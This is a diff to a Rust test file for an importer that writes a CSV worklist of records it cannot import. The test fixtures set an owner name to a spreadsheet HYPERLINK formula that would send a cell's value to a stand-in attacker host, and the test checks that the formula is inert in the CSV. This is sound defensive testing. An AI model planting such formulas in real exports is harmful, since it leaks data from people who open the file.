@@ -11,7 +11,8 @@ use serde_json::json;
 
 const FORMULA: &str = r#"=HYPERLINK("http://evil.example/?x="&I2,"Click")"#;
 
-/// A record Vault has no connector for: never imported, so it is on the worklist.
+/// An API key for an OAuth connector: never imported, and only the end user can fix it
+/// (connect again), so it is an `end_user` row of the worklist.
 fn unimportable(id: &str, service: &str, unified_api: &str) -> String {
     json!({"id": id, "owner": {"id": "u4", "name": FORMULA, "email": "u4@example.com"},
            "service": service,
@@ -36,8 +37,8 @@ async fn setup() -> Setup {
     let env = sandbox.env();
     let dir = scratch();
     let inputs = scratch();
-    let crm = unimportable("u4/nosuchcrm", "nosuchcrm", "crm");
-    let accounting = unimportable("u4/nosuchbooks", "nosuchbooks", "accounting");
+    let crm = unimportable("u4/hubspot", "hubspot", "crm");
+    let accounting = unimportable("u4/xero", "xero", "accounting");
     let one = write_lines(inputs.path(), "one.jsonl", std::slice::from_ref(&crm));
     let both = write_lines(inputs.path(), "both.jsonl", &[crm, accounting]);
     let run = import_with_state("apideck", &env, dir.path(), &both, &[]).await;
@@ -111,7 +112,7 @@ async fn a_formula_in_an_owner_name_is_inert_in_the_csv_beside_a_link() {
     let csv = std::fs::read_to_string(setup.dir.path().join("w.csv")).unwrap();
     let mut lines = csv.lines();
     assert!(
-        lines.next().unwrap().ends_with(",link_note,link_minted_at"),
+        lines.next().unwrap().contains(",link_note,link_minted_at,"),
         "{csv}"
     );
     let row = lines.next().unwrap();
